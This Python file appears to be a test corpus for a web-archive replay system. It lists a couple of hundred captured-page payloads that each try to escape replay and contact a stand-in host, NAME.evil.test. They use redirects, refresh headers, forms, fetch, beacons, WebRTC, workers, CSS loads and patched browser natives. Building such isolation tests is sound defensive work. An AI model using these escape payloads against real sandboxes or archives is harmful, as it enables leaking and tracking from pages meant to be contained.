"""Ways out of a captured page, as an attacker writes them. Each is a page of its own; Outside counts what arrives of it.

In a page, {evil} is "http://NAME.evil.test", {evils} the same with https, {host} the name alone, {stun} a STUN server's URL, {udp} its port, {name} the way's name.
"""

from dataclasses import dataclass, field

HTML = "text/html; charset=utf-8"


@dataclass
class Way:
    name: str
    body: str
    type: str = HTML
    headers: list = field(default_factory=list)
    more: dict = field(default_factory=dict)  # path: (status, headers, body), captures beside the page
    modifier: str = "mp_"
    click: str = ""  # the buttons that a person presses on the page: "left", "middle", "left+ctrl"
    tells: bool = True  # says "tried NAME"; otherwise that it was asked for is all that is to be seen
    ends: bool = False  # says "done NAME" when all of it is over, later than what a browser tells of

    @property
    def site(self):
        return f"http://{self.name}.site.test/"


WAYS = []


def way(name, body, **more):
    WAYS.append(Way(name, body, ends="createOffer" in str(body), **more))


def page(head="", body="", script=""):
    return (f"<!DOCTYPE html><html><head><script>console.log('tried {{name}}'); if (Reflect.get(self, 'top') === self) console.log('in-window {{name}}')</script>{head}</head><body>{body}"
            f"<script>try {{ {script} }} catch (e) {{ console.log('threw {{name}}: ' + e.message) }}</script></body></html>")


def script(name, code, **more):
    way(name, page(script=code), **more)


def head(name, markup, **more):
    way(name, page(head=markup), **more)


def body(name, markup, **more):
    way(name, page(body=markup), **more)


# The natives of a window that no script of the archive has seen.
FRESH = "const fresh = document.createElement('iframe'); document.documentElement.append(fresh); const w = fresh.contentWindow; "
BIG = 'style="position:fixed;left:0;top:0;width:500px;height:400px;background:#cde"'
CALL = ("const call = new RTC({iceServers: [{urls: '{stun}'}]}); self.kept = call; call.createDataChannel('x'); "
        "call.onicegatheringstatechange = () => { if (call.iceGatheringState === 'complete') console.log('done {name}') }; "
        "call.createOffer().then((offer) => call.setLocalDescription(offer));")
RUN_JS = [("Content-Type", "text/javascript")]


def calls(context):
    return CALL.replace("new RTC(", f"new {context}.RTCPeerConnection(")


def frame_of(document):
    """A script that shows this document, in which "/" is escaped, in a frame by srcdoc."""
    return f"const f = document.createElement('iframe'); f.srcdoc = `{document}`; document.body.append(f);"


def blob_of(document, type_="text/html"):
    return f"URL.createObjectURL(new Blob([`{document}`], {{type: '{type_}'}}))"


# --- navigation by scripts ---
script("location", "location = '{evil}/'")
script("location-href", "location.href = '{evil}/'")
script("location-assign", "location.assign('{evil}/')")
script("location-replace", "location.replace('{evil}/')")
script("location-host", "location.host = '{host}'")
script("location-in-top", "top.location = '{evil}/'")
script("location-in-parent", "parent.location.replace('{evil}/')")
script("location-protocol-relative", "location = '//{host}/'")
script("location-backslashes", "location = 'http:\\\\\\\\{host}\\\\'")
script("location-tab-in-scheme", "location = 'ht\\ttp://{host}/'")
script("location-leading-controls", "location = '\\x01\\x1f {evil}/'")
script("location-userinfo", "location = 'http://site.test@{host}/'")
script("location-trim-patched", "String.prototype.trim = () => '#'; location = '{evil}/'")
script("location-regexp-patched", "RegExp.prototype.test = () => false; RegExp.prototype.exec = () => ['', '', 'x']; location = '{evil}/'")
script("location-url-patched", "window.URL = function () { return {origin: location.origin, protocol: 'x:', pathname: '/'} }; location = '{evil}/'")
script("location-call-patched", "Function.prototype.call = function () {}; Function.prototype.apply = () => {}; Reflect.apply = () => {}; location = '{evil}/'")
script("location-timers-patched", "window.setTimeout = () => 0; window.Promise = undefined; location = '{evil}/'")
script("location-starts-with-patched", "String.prototype.startsWith = () => true; String.prototype.replace = function () { return '' + this }; location = '{evil}/'")
script("location-cancelable-patched", "Object.defineProperty(Event.prototype, 'cancelable', {get: () => false}); Event.prototype.preventDefault = () => {}; location = '{evil}/'")
script("location-define-patched", "Object.defineProperty(Object.prototype, 'target', {value: '_self'}); Object.prototype.origin = location.origin; location = '{evil}/'")
script("location-listener-stopped", "if (window.navigation) navigation.onnavigate = null; "
       "window.addEventListener('navigate', (e) => e.stopImmediatePropagation(), true); NavigateEvent.prototype.preventDefault = () => {}; location = '{evil}/'")
script("location-native-of-frame", FRESH + "w.eval(\"parent.location = '{evil}/'\")")
script("location-setter-of-frame", FRESH + "Object.getOwnPropertyDescriptor(w, 'location').set.call(window, '{evil}/')")
script("location-of-frame-itself", FRESH + "w.location = '{evil}/'")
script("location-after-stop", "window.stop(); setTimeout(() => { location = '{evil}/' }, 0)")
script("location-from-timer-string", "setTimeout(\"location = '{evil}/'\", 0)")
script("location-in-unload", "addEventListener('pagehide', () => { location = '{evil}/' }); location.reload()")
script("location-javascript", "location = \"javascript:void(location='{evil}/')\"")
script("location-data", "location = 'data:text/html,<script>location=\"{evil}/\"</script>'".replace("</script>", "<\\/script>"))
script("location-blob", "location = " + blob_of("<script>location = '{evil}/'<\\/script>"))
script("location-blob-xhtml", "location = " + blob_of("<html xmlns='http://www.w3.org/1999/xhtml'><script>location = '{evil}/'<\\/script></html>", "application/xhtml+xml"))
script("location-srcdoc", frame_of("<script>parent.location = '{evil}/'<\\/script>"))
script("location-data-frame", "const f = document.createElement('iframe'); f.src = 'data:text/html,<script>top.location=\"{evil}/\"; location=\"{evil}/\"<\\/script>'; document.body.append(f)")
script("location-worker-message", "new Worker(" + blob_of("postMessage('{evil}/')", "text/javascript") + ").onmessage = (e) => { location = e.data }")
script("navigation-navigate", "navigation.navigate('{evil}/')")
script("navigation-native", FRESH + "w.Navigation.prototype.navigate.call(navigation, '{evil}/')")
script("navigation-of-top", "top.navigation.navigate('{evil}/')")
script("history-then-relative", "History.prototype.pushState.call(history, 0, '', '/'); location = '//{host}/'")
script("history-go", "location.hash = 'x'; onhashchange = () => { location = '{evil}/' }; history.back()")
script("document-open", "document.open(); document.write('<script>location = \"{evil}/\"<\\/script>'); document.close()")
script("document-write-refresh", "document.open(); document.write('<meta http-equiv=refresh content=\"0;url={evil}/\">'); document.close()")
script("document-domain", "try { document.domain = 'test' } catch {} location = '{evil}/'")
script("document-location", "document.location = '{evil}/'")
script("exec-command", "document.designMode = 'on'; document.execCommand('insertHTML', false, '<img src={evil}/><iframe src={evil}/>')")
script("base-then-link", "document.head.insertAdjacentHTML('beforeend', '<base href={evil}/>'); const a = document.createElement('a'); "
       "a.setAttribute.call; a.attributes.setNamedItem(Object.assign(document.createAttribute('href'), {value: 'x'})); document.body.append(a); a.click()")
script("set-html", "document.body.setHTMLUnsafe ? document.body.setHTMLUnsafe('<iframe src={evil}/></iframe>') : 0")
script("shadow-frame", "const host = document.createElement('div'); document.body.append(host); host.attachShadow({mode: 'closed'}).innerHTML = '<iframe src={evil}/></iframe>'")
script("portal-and-fenced", "for (const name of ['portal', 'fencedframe']) { const e = document.createElement(name); e.src = '{evil}/'; "
       "if (self.FencedFrameConfig) try { e.config = new FencedFrameConfig('{evil}/') } catch {} document.body.append(e) }")

# --- navigation by markup and headers ---
head("refresh", '<meta http-equiv="refresh" content="0;url={evil}/">')
head("refresh-quoted", "<meta http-equiv=\"refresh\" content=\"0;url='{evil}/'\">")
head("refresh-comma", '<meta http-equiv="REFRESH" content="0,{evil}/">')
head("refresh-no-url-word", '<meta http-equiv="refresh" content="0; {evil}/">')
head("refresh-controls", '<meta http-equiv="refresh" content="0;&#9;url&#10;=&#12;&#1;{evil}/">')
head("refresh-entities", '<meta http-equiv="re&#102;resh" content="0;u&#114;l&equals;{evil}&sol;">')
head("refresh-dots", '<meta http-equiv="refresh" content="0.0.;url=//{host}/">')
head("refresh-in-noscript", '<noscript><meta http-equiv="refresh" content="0;url={evil}/"></noscript>')
body("refresh-in-svg", '<svg><desc><meta http-equiv="refresh" content="0;url={evil}/"></desc></svg>')
body("refresh-in-template", '<div><template shadowrootmode="open"><meta http-equiv="refresh" content="0;url={evil}/"><iframe src="{evil}/"></iframe></template></div>')
head("base-and-relative", '<base href="{evil}/"><meta http-equiv="refresh" content="0;url=x"><link rel="stylesheet" href="y">')
for label, value in {"plain": "0;url={evil}/", "control": "0;url=\x01{evil}/", "tab": "0;\turl\t=\t{evil}/", "leading": "\x0c0;url={evil}/",
                     "comma": "0,{evil}/", "quote": "0;url=\"{evil}/", "two": "0;url=x, 0;url={evil}/", "slashes": "0;url=//{host}/"}.items():
    head("refresh-header-" + label, "", headers=[("Refresh", value)])
for label, value in {"plain": "{evil}/", "control": "\x01{evil}/", "tab": "\t{evil}/", "in-scheme": "ht\ttp://{host}/", "leading-text": "x {evil}/",
                     "slashes": "//{host}/", "backslashes": "\\\\{host}\\", "userinfo": "http://site.test:80@{host}/", "many-slashes": "http:////{host}/",
                     "no-slashes": "http:{host}/", "unicode": "http://{host}\u3002/", "fullwidth": "\uff48ttp://{host}/", "upper": "HTTP://{host}/",
                     "archive-first": "/alpha/20260102030405mp_/\t//{host}/", "dots": "/../..//{host}/", "escaped": "http%3A//{host}/", "javascript": "javascript:location='{evil}/'",
                     "data": "data:text/html,<script>location='{evil}/'</script>", "blank-inside": "http://{host} /"}.items():
    script("moved-" + label, "location = '/moved'", more={"/moved": (302, [("Location", value)], "")})
    script("moved-frame-" + label, "const f = document.createElement('iframe'); f.src = '/moved'; document.body.append(f)",
           more={"/moved": (301, [("Location", value)], "<a href={evil}/>there</a>")})
script("moved-twice", "location = '/a'", more={"/a": (307, [("Location", "/b")], ""), "/b": (308, [("Location", "{evil}/")], "")})
script("moved-two-locations", "location = '/a'", more={"/a": (302, [("Location", "/b"), ("Location", "{evil}/")], "")})

# --- links, forms, windows ---
A = "const a = document.createElement('a'); a.attributes.setNamedItem(Object.assign(document.createAttribute('href'), {value: '{evil}/'})); "
script("link-click", A + "document.body.append(a); a.click()")
script("link-detached-click", A + "a.click()")
script("link-dispatched", A + "document.body.append(a); a.dispatchEvent(new MouseEvent('click', {ctrlKey: true, bubbles: true, cancelable: true}))")
script("link-stopped", "addEventListener('click', (e) => e.stopImmediatePropagation(), true); " + A + "document.body.append(a); a.click()")
for target in ("_blank", "_top", "_parent", "other"):
    script("link-to-" + target.strip("_"), A + f"a.target = '{target}'; document.body.append(a); a.click()")
script("link-noopener", A + "a.target = '_blank'; a.rel = 'noopener'; document.body.append(a); a.click()")
script("link-native", FRESH + "const a = w.document.createElement('a'); a.href = '{evil}/'; a.target = '_parent'; w.document.body.append(a); w.HTMLElement.prototype.click.call(a)")
script("link-download", A + "a.download = 'x'; document.body.append(a); a.click()")
script("link-svg", "const s = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); s.innerHTML = '<a href=\"{evil}/\"><text>x</text></a>'; "
       "document.body.append(s); s.firstChild.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))")
script("link-mathml", "document.body.insertAdjacentHTML('beforeend', '<math href=\"{evil}/\"><mi href=\"{evil}/\">x</mi></math>'); "
       "document.querySelector('mi').dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))")
script("area-click", "document.body.insertAdjacentHTML('beforeend', '<map name=m><area></map>'); const a = document.querySelector('area'); "
       "Object.getOwnPropertyDescriptor(HTMLAreaElement.prototype, 'href').set.call(a, '{evil}/'); a.click()")
FORM = "const f = document.createElement('form'); f.attributes.setNamedItem(Object.assign(document.createAttribute('action'), {value: '{evil}/'})); "
for method in ("get", "post"):
    script("form-" + method, FORM + f"f.method = '{method}'; document.body.append(f); HTMLFormElement.prototype.submit.call(f)")
    for target in ("_blank", "_top", "other"):
        script(f"form-{method}-to-{target.strip('_')}", FORM + f"f.method = '{method}'; f.target = '{target}'; document.body.append(f); f.submit()")
script("form-request-submit", FORM + "document.body.append(f); f.requestSubmit()")
script("form-native", FRESH + FORM + "f.target = '_self'; document.body.append(f); w.HTMLFormElement.prototype.submit.call(f)")
script("form-of-frame", FRESH + "w.document.body.innerHTML = '<form action=\"{evil}/\" target=_parent></form>'; w.document.forms[0].submit()")
script("form-moved", "const f = document.createElement('form'); f.method = 'post'; f.action = '/a'; document.body.append(f); f.submit()", more={"/a": (307, [("Location", "{evil}/")], "")})
script("open", "window.open('{evil}/')")
script("open-native", FRESH + "w.open.call(window, '{evil}/')")
script("open-noopener", FRESH + "w.open('{evil}/', '_blank', 'noopener')")
script("open-named", FRESH + "w.open('{evil}/', '_parent')")
script("open-then-navigate", FRESH + "const o = w.open('about:blank'); if (o) o.location = '{evil}/'")
script("open-write", FRESH + "const o = w.open(''); if (o) { o.document.write('<img src={evil}/>'); o.location = '{evil}/' }")
script("print", "window.print = window.print; document.head.insertAdjacentHTML('beforeend', '<style media=print>body { background: url({evil}/) }</style>'); try { matchMedia('print') } catch {}")
for button in ("left", "middle", "left+ctrl", "left+shift"):
    label = button.replace("+", "-")
    way("pressed-link-" + label, page(body=f"<a id=a {BIG}>go</a>", script="a.attributes.setNamedItem(Object.assign(document.createAttribute('href'), {value: '{evil}/'})); "
        "addEventListener('click', (e) => e.stopImmediatePropagation(), true)"), click=button)
way("pressed-blank", page(body=f"<a id=a target=_blank {BIG}>go</a>", script=FRESH + "w.Element.prototype.setAttribute.call(a, 'href', '{evil}/'); "
    "window.addEventListener('click', (e) => e.stopImmediatePropagation(), true)"), click="left")
way("pressed-open", page(body=f"<div {BIG}>go</div>", script=FRESH + "addEventListener('mousedown', () => w.open('{evil}/', '_blank', 'noopener'))"), click="left")
way("pressed-top", page(body=f"<div {BIG}>go</div>", script="addEventListener('mousedown', () => { top.location = '{evil}/' })"), click="left")
way("pressed-form-blank", page(body=f"<div {BIG}>go</div>", script=FRESH + FORM + "f.target = '_blank'; document.body.append(f); "
    "addEventListener('mousedown', () => w.HTMLFormElement.prototype.submit.call(f))"), click="left")
way("pressed-ping", page(body=f'<a href="#x" ping="{{evil}}/" {BIG}>go</a>'), click="left")
way("pressed-ping-script", page(body=f"<a id=a href='#x' {BIG}>go</a>", script="a.attributes.setNamedItem(Object.assign(document.createAttribute('ping'), {value: '{evil}/'}))"), click="left")
way("pressed-attribution", page(body=f'<a href="#x" attributionsrc="{{evils}}/" {BIG}>go</a><img attributionsrc="{{evils}}/">'), click="left")
way("pressed-download", page(body=f"<a id=a download {BIG}>go</a>", script=FRESH + "w.Element.prototype.setAttribute.call(a, 'href', '{evil}/')"), click="left")
way("pressed-opened-then-left", page(body=f"<div {BIG}>go</div>", script=FRESH + "addEventListener('mousedown', () => { const o = w.open('/', 'n'); "
    "if (o) setTimeout(() => { o.location = '{evil}/' }, 100) })"), click="left")

# --- other kinds of documents ---
SVG = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:h='http://www.w3.org/1999/xhtml'><script>console.log('tried {name}'); if (Reflect.get(self, 'top') === self) console.log('in-window {name}')</script>%s</svg>"
XHTML = "<html xmlns='http://www.w3.org/1999/xhtml'><head><script>console.log('tried {name}'); if (Reflect.get(self, 'top') === self) console.log('in-window {name}')</script>%s</head><body/></html>"
way("svg-location", SVG % "<script>location = '{evil}/'</script>", type="image/svg+xml")
way("svg-script-href", SVG % "<script href='{evil}/x.js'/><image href='{evil}/i.png' width='9' height='9'/><use href='{evil}/u.svg#x'/>", type="image/svg+xml")
way("svg-fe-image", SVG % "<filter id='f'><feImage href='{evil}/i.png'/></filter><rect width='99' height='99' filter='url(#f)' mask='url({evil}/m.svg#m)'/>", type="image/svg+xml")
way("svg-link", SVG % "<a id='a' href='{evil}/'><text y='20'>x</text></a><script>document.getElementById('a').dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}))</script>",
    type="image/svg+xml")
way("svg-refresh", SVG % "<h:meta http-equiv='refresh' content='0;url={evil}/'/>", type="image/svg+xml")
way("svg-call", SVG % ("<script>" + calls("self") + "</script>"), type="image/svg+xml")
way("svg-frame", SVG % "<foreignObject width='99' height='99'><h:iframe src='{evil}/'/><h:link rel='preconnect' href='{evil}/'/></foreignObject>", type="image/svg+xml")
way("svg-preconnect", SVG % "<h:link rel='preconnect' href='{evil}/'/><h:link rel='dns-prefetch' href='{evil}/'/>", type="image/svg+xml")
way("svg-animated-link", SVG % "<a id='a' href='#'><set attributeName='href' to='{evil}/'/><text y='20'>x</text></a><script>setTimeout(() => "
    "document.getElementById('a').dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})), 100)</script>", type="image/svg+xml")
way("xhtml-location", XHTML % "<script>location = '{evil}/'</script>", type="application/xhtml+xml")
way("xhtml-refresh", XHTML % "<meta http-equiv='refresh' content='0;url={evil}/'/>", type="application/xhtml+xml")
way("xhtml-cdata", XHTML % "<script><![CDATA[ location = '{evil}/' ]]></script>", type="application/xhtml+xml")
way("xhtml-prefixed", "<h:html xmlns:h='http://www.w3.org/1999/xhtml'><h:script>console.log('tried {name}'); location = '{evil}/'</h:script><h:meta http-equiv='refresh' content='0;url={evil}/'/></h:html>",
    type="application/xhtml+xml", tells=False)
way("xhtml-entity", "<!DOCTYPE html [<!ENTITY e '{evil}/'>]><html xmlns='http://www.w3.org/1999/xhtml'><script>console.log('tried {name}')</script><meta http-equiv='refresh' content='0;url=&e;'/></html>",
    type="application/xhtml+xml")
for kind in ("text/xml", "application/xml", "application/rss+xml", "application/mathml+xml", "application/vnd.custom+xml"):
    way("xml-" + kind.split("/")[1].replace("+", "-").replace(".", "-") + ("-text" if kind.startswith("text") else ""),
        "<root xmlns:h='http://www.w3.org/1999/xhtml'><h:script>console.log('tried {name}'); location = '{evil}/'</h:script></root>", type=kind, tells=kind in ("text/xml", "application/xml"))
XSL = ("<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'><xsl:template match='/'><html><body><script>console.log('tried {name}'); "
       "location = '{evil}/'</script><xsl:copy-of select=\"document('{evil}/x.xml')\"/></body></html></xsl:template></xsl:stylesheet>")
way("xml-style-sheet", "<?xml-stylesheet type='text/css' href='{evil}/x.css'?><root xmlns:h='http://www.w3.org/1999/xhtml'><h:script>console.log('tried {name}')</h:script></root>", type="text/xml")
way("xml-transformed", "<?xml-stylesheet type='text/xsl' href='x.xsl'?><root xmlns:h='http://www.w3.org/1999/xhtml'/>", type="text/xml", tells=False,
    more={"/x.xsl": (200, [("Content-Type", "text/xml")], XSL)})
way("mathml-document", "<math xmlns='http://www.w3.org/1998/Math/MathML' href='{evil}/' xmlns:h='http://www.w3.org/1999/xhtml'><h:script>console.log('tried {name}'); location = '{evil}/'</h:script></math>",
    type="application/mathml+xml", tells=False)
way("no-type", page(script="location = '{evil}/'"), type="")
way("odd-type", page(script="location = '{evil}/'"), type="text/html;charset=utf-7, text/html")
way("sniffed", "  " + page(script="location = '{evil}/'"), type="unknown/unknown")
way("utf-16", page(script="location = '{evil}/'"), type="text/html; charset=utf-16le")
for modifier in ("id_", "js_", "im_", "cs_", "oe_", "if_", "fr_", "ir_", "sw_", "wkr_", "xx_", ""):
    way("raw-" + (modifier.strip("_") or "plain"), page(script="location = '{evil}/'"), modifier=modifier, tells=False)
    way("raw-svg-" + (modifier.strip("_") or "plain"), SVG % "<script>location = '{evil}/'</script>", type="image/svg+xml", modifier=modifier, tells=False)
for modifier in ("id_", "js_", "oe_", "cs_", "im_"):
    script("framed-" + modifier.strip("_"), f"const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = '/alpha/20260102030405{modifier}/http://{{name}}.site.test/raw'",
           more={"/raw": (200, [("Content-Type", HTML)], "<script>location = '{evil}/'</script>")})
    script("framed-call-" + modifier.strip("_"), f"const f = document.createElement('iframe'); document.body.append(f); f.contentWindow.location = '/alpha/20260102030405{modifier}/http://{{name}}.site.test/raw'",
           more={"/raw": (200, [("Content-Type", HTML)], f"<script>{calls('self')} const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '{{evil}}/'; document.head.append(l)</script>")})
script("opened-id", FRESH + "w.open('/alpha/20260102030405id_/http://{name}.site.test/raw', '_parent')", more={"/raw": (200, [("Content-Type", HTML)], "<script>location = '{evil}/'</script>")})

# --- realms without policy: whatever the archive answers with that is no capture ---
for label, path in {"missing": "/alpha/20260102030405mp_/http://nothing.test/", "no-collection": "/nothing/", "asset": "/-/client.js", "sheet": "/-/style.css", "icon": "/-/icon.svg",
                    "no-asset": "/-/nothing", "start": "/", "collection": "/alpha/", "cdx": "/alpha/cdx?url=http://{name}.site.test/", "calendar": "/alpha/*/http://{name}.site.test/",
                    "timemap": "/alpha/timemap/link/http://{name}.site.test/", "no-url": "/alpha/2026mp_/", "icon-of-browser": "/favicon.ico", "robots": "/robots.txt",
                    "bad-escape": "/alpha/%zz", "long": "/alpha/' + 'x'.repeat(200000) + '", "nul": "/alpha/%00", "redirect": "/alpha", "old": "/alpha/2020/http://{name}.site.test/", "go": "/-/go?url=x"}.items():
    script("realm-" + label, f"const f = document.createElement('iframe'); f.onload = () => {{ try {{ const w = f.contentWindow; if (w.location.href === 'about:blank') return; f.onload = null; w.fetch('{{evil}}/').catch(() => 0); "
           f"const l = w.document.createElement('link'); l.rel = 'preconnect'; l.href = '{{evil}}/'; w.document.documentElement.append(l); w.eval(\"location = '{{evil}}/'\"); }} catch {{}} }}; "
           f"document.body.append(f); f.contentWindow.location = '{path}'")
script("realm-cookie-bomb", FRESH + "for (let i = 0; i < 60; ++i) w.document.cookie = 'bomb' + i + '=' + 'x'.repeat(3900) + '; path=/alpha/bomb; SameSite=None; Secure'; const f = document.createElement('iframe'); "
       "f.onload = () => { if (f.contentWindow.location.href === 'about:blank') return; f.onload = null; f.contentWindow.fetch('{evil}/').catch(() => 0); f.contentWindow.eval(\"location = '{evil}/'\") }; document.body.append(f); f.contentWindow.location = '/alpha/bomb'")
script("realm-post", "const f = document.createElement('iframe'); f.name = 'p'; document.body.append(f); f.onload = () => { try { f.contentWindow.eval(\"location = '{evil}/'\") } catch {} }; "
       "document.body.insertAdjacentHTML('beforeend', '<form method=post target=p enctype=text/plain><input name=x></form>'); const m = document.forms[0]; m.elements[0].value = 'x'.repeat(3e6); m.submit()")

# --- requests ---
for label, code in {
        "fetch": "w.fetch('{evil}/').catch(() => 0)", "fetch-keepalive": "w.fetch('{evil}/', {keepalive: true, mode: 'no-cors', method: 'POST', body: 'x'}).catch(() => 0)",
        "fetch-later": "if (w.fetchLater) w.fetchLater('{evils}/', {activateAfter: 0})", "xhr": "const x = new w.XMLHttpRequest; x.open('GET', '{evil}/'); x.send()",
        "beacon": "w.Navigator.prototype.sendBeacon.call(navigator, '{evil}/', 'x')", "event-source": "new w.EventSource('{evil}/')", "web-socket": "new w.WebSocket('ws://{host}/')",
        "web-socket-stream": "if (w.WebSocketStream) new w.WebSocketStream('wss://{host}/').opened.catch(() => 0)",
        "web-transport": "new w.WebTransport('https://127.0.0.1:{udp}/').ready.catch(() => 0)", "image": "new w.Image().src = '{evil}/'", "audio": "new w.Audio('{evil}/a.mp3').play().catch(() => 0)",
        "worker": "new w.Worker('{evil}/w.js')", "shared-worker": "new w.SharedWorker('{evil}/w.js')", "import": "w.eval(\"import('{evil}/m.js').catch(() => 0)\")",
        "font-face": "new w.FontFace('x', 'url({evil}/f.woff)').load().catch(() => 0)", "sheet-constructed": "const s = new CSSStyleSheet; s.replaceSync('body { background: url({evil}/b.png) }'); document.adoptedStyleSheets = [s]",
        "paint-worklet": "if (CSS.paintWorklet) CSS.paintWorklet.addModule('{evil}/p.js').catch(() => 0)", "audio-worklet": "new OfflineAudioContext(1, 9, 8000).audioWorklet.addModule('{evil}/p.js').catch(() => 0)",
        "call": calls("w"), "web-rtc-turn": "const c = new w.RTCPeerConnection({iceServers: [{urls: '{stun}'.replace('stun', 'turn'), username: 'u', credential: 'c'}], iceTransportPolicy: 'relay'}); self.k = c; "
        "c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))",
        "web-rtc-candidate": "const c = new w.RTCPeerConnection; self.k = c; c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o)).then(() => { const p = new w.RTCPeerConnection; self.p = p; "
        "return p.setRemoteDescription(c.localDescription).then(() => p.createAnswer()).then((a) => p.setLocalDescription(a)).then(() => c.setRemoteDescription(p.localDescription)).then(() => "
        "c.addIceCandidate({candidate: 'candidate:1 1 udp 2130706431 127.0.0.1 {udp} typ host', sdpMid: '0', sdpMLineIndex: 0})) }).catch(() => 0)",
        "notification": "if (w.Notification) new w.Notification('x', {icon: '{evil}/', image: '{evil}/', badge: '{evil}/'})", "protocol-handler": "navigator.registerProtocolHandler('web+x', location.origin + '/%s')",
        "payment": "new w.PaymentRequest([{supportedMethods: '{evils}/pay'}], {total: {label: 'x', amount: {currency: 'EUR', value: '1'}}}).canMakePayment().catch(() => 0)",
        "credentials": "navigator.credentials.get({identity: {providers: [{configURL: '{evils}/c.json', clientId: 'x'}]}}).catch(() => 0)",
        "service-worker": "w.ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, '/alpha/20260102030405js_/http://{name}.site.test/sw.js').catch(() => 0)",
        "media-session": "navigator.mediaSession.metadata = new w.MediaMetadata({title: 'x', artwork: [{src: '{evil}/a.png'}]})", "interest-group": "if (navigator.joinAdInterestGroup) navigator.joinAdInterestGroup("
        "{owner: '{evils}', name: 'x', biddingLogicURL: '{evils}/b.js'}, 999).catch(() => 0)", "shared-storage": "if (w.sharedStorage) w.sharedStorage.worklet.addModule('{evils}/m.js').catch(() => 0)",
        "web-share": "navigator.share && navigator.share({url: '{evil}/'}).catch(() => 0)", "background-fetch": "navigator.serviceWorker && navigator.serviceWorker.ready.then((r) => r.backgroundFetch.fetch('x', '{evil}/'))",
        "report": "if (w.ReportingObserver) new w.ReportingObserver(() => 0).observe(); w.console.error('{evil}/')", "private-token": "w.fetch('{evils}/', {privateToken: {version: 1, operation: 'token-request'}}).catch(() => 0)",
}.items():
    more = {"/sw.js": (200, RUN_JS, "fetch('{evil}/')")} if label == "service-worker" else {}
    script("native-" + label, FRESH + code, more=more)
WORKER = "try { fetch('{evil}/').catch(() => 0) } catch {} try { importScripts('{evil}/i.js') } catch {} try { new WebSocket('ws://{host}/') } catch {} try { new Worker('{evil}/') } catch {}"
for label, made in {"blob": "new w.Worker(" + blob_of(WORKER, "text/javascript") + ")", "blob-module": "new w.Worker(" + blob_of("import('{evil}/m.js').catch(() => 0); fetch('{evil}/')", "text/javascript") + ", {type: 'module'})",
                    "blob-shared": "new w.SharedWorker(" + blob_of(WORKER, "text/javascript") + ")", "data": "new w.Worker('data:text/javascript,' + encodeURIComponent(`" + WORKER + "`))",
                    "captured": "new Worker('/w.js')", "captured-native": "new w.Worker('/alpha/20260102030405js_/http://{name}.site.test/w.js')", "captured-module": "new w.Worker('/alpha/20260102030405js_/http://{name}.site.test/m.js', {type: 'module'})",
                    "captured-shared": "new w.SharedWorker('/alpha/20260102030405js_/http://{name}.site.test/w.js')", "captured-id": "new w.Worker('/alpha/20260102030405id_/http://{name}.site.test/w.js')",
                    "captured-oe": "new w.SharedWorker('/alpha/20260102030405oe_/http://{name}.site.test/w.js')"}.items():
    script("worker-" + label, FRESH + made, more={"/w.js": (200, RUN_JS, WORKER), "/m.js": (200, RUN_JS, "import '{evil}/m.js';")})
script("worker-call", "new Worker(" + blob_of("try { " + calls("self") + " } catch {}", "text/javascript") + ")")
script("beacon-in-pagehide", FRESH + "const beacon = w.Navigator.prototype.sendBeacon; addEventListener('pagehide', () => beacon.call(navigator, '{evil}/', 'x')); setTimeout(() => location.reload(), 50)")
script("fetch-after-unload", FRESH + "const get = w.fetch; onpagehide = () => { get('{evil}/', {keepalive: true}).catch(() => 0); setTimeout(() => get('{evil}/'), 10) }; fresh.remove(); setTimeout(() => location.reload(), 50)")
script("call-srcdoc", frame_of(f"<script>{CALL.replace('RTC(', 'RTCPeerConnection(')}<\\/script>"))
script("call-blob", "const f = document.createElement('iframe'); f.src = " + blob_of(f"<script>{CALL.replace('RTC(', 'RTCPeerConnection(')}<\\/script>") + "; document.body.append(f)")
script("call-data", f"const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent(`<script>{CALL.replace('RTC(', 'RTCPeerConnection(')}<\\/script>`); document.body.append(f)")
script("call-page", "const RTC = window.RTCPeerConnection || window.webkitRTCPeerConnection; if (RTC) { " + CALL + " }")
script("csp-less-frames", "for (const a of ['credentialless', 'csp', 'allow', 'sandbox', 'fetchpriority', 'privateToken', 'browsingtopics', 'adauctionheaders']) { const f = document.createElement('iframe'); "
       "f.setAttribute(a, a === 'csp' ? 'default-src *' : ''); document.body.append(f); f.contentWindow.location = '{evil}/' }")
for kind, attribute in {"object": "data", "embed": "src", "iframe": "src", "frame": "src", "img": "src", "video": "src", "audio": "src", "track": "src", "source": "src", "input": "src", "script": "src", "applet": "code", "body": "background"}.items():
    script("element-" + kind, f"const e = document.createElement('{kind}'); e.attributes.setNamedItem(Object.assign(document.createAttribute('{attribute}'), {{value: '{{evil}}/x'}})); "
           "if (e.tagName === 'INPUT') e.type = 'image'; document.body.append(e)")
body("object-markup", '<object data="{evil}/" type="text/html"><embed src="{evil}/" type="image/svg+xml"></object><object type="application/pdf" data="{evil}/"></object>')
body("hls", '<video src="/list.m3u8" autoplay muted></video><audio src="/list.m3u8" autoplay muted></audio>',
     more={"/list.m3u8": (200, [("Content-Type", "application/vnd.apple.mpegurl")], "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{evil}/s.ts\n#EXT-X-ENDLIST\n")})
CSS = ("@import '{evil}/a.css'; @import url({evil}/b.css) layer(x); @font-face { font-family: x; src: url({evil}/f.woff) } @namespace '{evil}'; body { font: 20px x; cursor: url({evil}/c.cur), auto; background: "
       "image-set('{evil}/i.png' 1x), url({evil}/u.png); list-style: url({evil}/l.png); border-image: url({evil}/bo.png) 9; mask: url({evil}/m.svg#x); clip-path: url({evil}/k.svg#k); filter: url({evil}/fi.svg#f); "
       "shape-outside: url({evil}/s.png) } body::before { content: url({evil}/co.png) 'x'; content: element(x) }")
head("css", f"<style>{CSS}</style>")
script("css-by-script", f"const s = document.createElement('style'); s.append(`{CSS}`); document.head.append(s)")
